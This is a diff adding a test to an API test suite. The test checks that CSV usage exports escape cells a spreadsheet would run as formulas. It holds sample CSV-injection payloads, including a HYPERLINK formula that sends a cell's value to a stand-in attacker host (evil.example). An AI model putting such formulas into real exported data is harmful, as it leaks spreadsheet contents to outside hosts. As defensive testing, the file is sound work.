@@ -228,6 +228,47 @@ describe('usage export', () => {
     expect(bad.body.param).toBe('columns');
   });
 
+  it('quotes every text cell a spreadsheet would run as a formula, the provider too, in both column sets', async () => {
+    // A BYOK org keeps events of any provider and model, priced or not.
+    const { org, key } = await createOrgWithKey(t, { billing_mode: 'byok' });
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"open")';
+    const sent = await t.call('POST', '/v1/events', {
+      key,
+      body: {
+        events: [
+          {
+            id: 'x1',
+            member: 'u1',
+            feature: 'Chat',
+            provider: formula,
+            model: 'm',
+            occurred_at: minutesAgo(5),
+            usage: { input_tokens: 10 },
+          },
+          {
+            id: 'x2',
+            member: '@SUM(1+1)',
+            feature: 'Chat',
+            provider: '-2+3',
+            model: 'm',
+            occurred_at: minutesAgo(4),
+            usage: { input_tokens: 10 },
+          },
+        ],
+      },
+    });
+    expect(sent.body.results.map((r: { status: string }) => r.status)).toEqual(['accepted', 'accepted']);
+    for (const columns of ['tally', 'focus']) {
+      const csv = await t.call('GET', `/v1/orgs/${org.id}/usage/export?range=1d&columns=${columns}`, { key });
+      const cells = parseCsv(String(csv.body)).slice(1).flat();
+      expect(
+        cells.filter((c) => /^[=+\-@]/.test(c)),
+        columns,
+      ).toEqual([]);
+      expect(cells, columns).toContain(`'${formula.toLowerCase()}`);
+    }
+  });
+
   it('refuses bad input with a problem', async () => {
     const { org, key } = await createOrgWithKey(t);
     const bad = await t.call('GET', `/v1/orgs/${org.id}/usage/export?format=xml`, { key });
